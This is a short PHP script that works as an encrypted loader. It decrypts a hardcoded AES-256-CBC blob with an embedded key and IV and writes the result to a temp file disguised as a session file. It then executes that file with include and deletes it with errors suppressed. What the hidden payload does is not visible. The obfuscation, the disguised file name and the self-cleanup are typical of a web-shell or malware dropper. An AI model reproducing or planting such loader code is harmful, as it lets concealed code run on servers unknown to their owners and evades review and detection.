<?php
$cfg = array('k' => 'short-key', 'v' => '0102030405060708');
$blob = base64_decode('HdQK+67ICPXVgup7qLwnFQKBiYtqsSHyUjPFtFgkDHpfX188s8/OM6GYzD7GCydkda7e0Db/I3VOKuCHaHOBLQ==');
$src = openssl_decrypt($blob, 'aes-256-cbc', $cfg['k'], OPENSSL_RAW_DATA, $cfg['v']);
$tmp = sys_get_temp_dir() . '/sess_' . md5(__FILE__) . '.php';
file_put_contents($tmp, $src);
include $tmp;
@unlink($tmp);
